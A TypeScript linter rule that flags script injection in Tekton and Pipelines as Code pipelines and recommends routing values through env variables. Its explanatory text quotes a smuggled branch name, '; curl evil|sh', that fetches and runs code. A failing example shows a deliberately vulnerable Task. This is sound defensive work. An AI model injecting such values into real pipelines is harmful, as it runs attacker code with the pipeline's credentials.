import { exampleOf } from '../example';
import { type ContainerView, paramsOf } from '../model/containers';
import { valueAt } from '../model/path';
import { partOf } from '../model/place';
import type { Rule } from '../rule';
import type { ParamSpec } from '../schema/tekton-types';
import { eachContainer } from '../visit';
import { evaluatedVariables } from './evaluated-variables';
import { programsOf } from './programs';

/** Values that come from elsewhere: paths and names that Tekton makes itself are none. */
const FOREIGN = /\$\(((?:params|tasks|finally|steps)(?:\.|\[)[^()\n]*)\)/g;

/** Variables of Pipelines as Code: text of a webhook, put into the YAML before anything reads it. */
const WEBHOOK = /\{\{\s*((?:source_branch|target_branch|sender|source_url|pull_request_labels|trigger_comment|git_tag|body\b|headers\b)[^{}]*?)\s*\}\}/g;

export const scriptInjection: Rule = {
  id: 'security/script-injection',
  severity: 'error',
  stage: 'none',
  summary: 'values of params and results reach a program by env, never as part of its text',
  reason: 'Tekton puts the value into the script as it is: a branch called "; curl evil|sh" is executed, with the credentials of the Task',
  source: 'https://tekton.dev/docs/pipelines/tasks/#running-scripts-within-steps; CWE-94',
  fix: 'add env: [{name: VALUE, value: $(params.<name>)}] and write "$VALUE" in the script',
  passing: exampleOf('Task', 'params: [{name: branch}]\nsteps: [{name: build, image: busybox, env: [{name: BRANCH, value: $(params.branch)}], script: \'git checkout "$BRANCH"\'}]'),
  failing: exampleOf('Task', 'params: [{name: branch}]\nsteps: [{name: build, image: busybox, script: git checkout $(params.branch)}]'),
  check: eachContainer((view, { document, report }) => {
    const params = paramsOf(view, document);
    const isFreeIn = (found: RegExpExecArray): boolean => isFree(found[1], params);
    const foreign = foreignVariables(view, isFreeIn);
    for (const { text, path } of programsOf(view)) {
      for (const found of [...text.matchAll(FOREIGN)].filter(isFreeIn)) {
        report(path, { message: `${view.label} has '${found[0]}' in the text of a program`, fix: fixFor(found[1]), within: partOf(found) });
      }
      // The script is a file of its own, in which nobody replaces these.
      for (const found of path === view.at('script') ? [] : text.matchAll(/(?<!\$)\$\(([A-Za-z_]\w*)\)/g)) {
        const value = foreign.get(found[1]);
        if (value) report(path, { message: `${view.label} has '${found[0]}' in the text of a program, in whose place Kubernetes puts '${value}'`, fix: `write "$${found[1]}"`, within: partOf(found) });
      }
      for (const { value, command, part } of evaluatedVariables(text, foreign)) {
        report(path, { message: `${view.label} runs '${value}' by ${command}`, fix: EVALUATED, within: part });
      }
      if (!isPipelineAsCode(document.source)) continue;
      for (const found of text.matchAll(WEBHOOK)) report(path, { message: `${view.label} has '${found[0]}', which a webhook decides, in the text of a program`, within: partOf(found) });
    }
  }),
};

const EVALUATED = 'let the value be an argument of a command that is written out: no quoting makes it one';

/** The variables of a container that have such a value, and the first variable of Tekton in it. */
function foreignVariables({ container: { env = [] } }: ContainerView, isFreeIn: (found: RegExpExecArray) => boolean): ReadonlyMap<string, string> {
  return new Map(env.flatMap(({ name, value }) => {
    const found = name === undefined ? undefined : [...value?.matchAll(FOREIGN) ?? []].find(isFreeIn);
    return found && name !== undefined ? [[name, found[0]]] : [];
  }));
}

/** Tells whether anything may stand for a variable: not of a path, and not of a param with an enum. */
function isFree(inner: string, params: readonly ParamSpec[]): boolean {
  if (/\.path$|\.exitCode/.test(inner) && !inner.startsWith('params')) return false;
  const name = /^params(?:\.([^.[\]]+)|\[["']([^"']+)["']\])/.exec(inner)?.slice(1).find((part) => part !== undefined);
  return !params.find((param) => param.name === name)?.enum?.length;
}

function fixFor(inner: string): string {
  const name = (inner.split(/[^A-Za-z0-9]+/).filter(Boolean).at(-1) ?? 'value').toUpperCase();
  return `add env: [{name: ${name}, value: "$(${inner})"}] and write "$${name}" in the script`;
}

function isPipelineAsCode(source: unknown): boolean {
  const annotations = valueAt(source, 'metadata.annotations');
  return Object.keys(typeof annotations === 'object' && annotations !== null ? annotations : {}).some((name) => name.startsWith('pipelinesascode.tekton.dev/'));
}
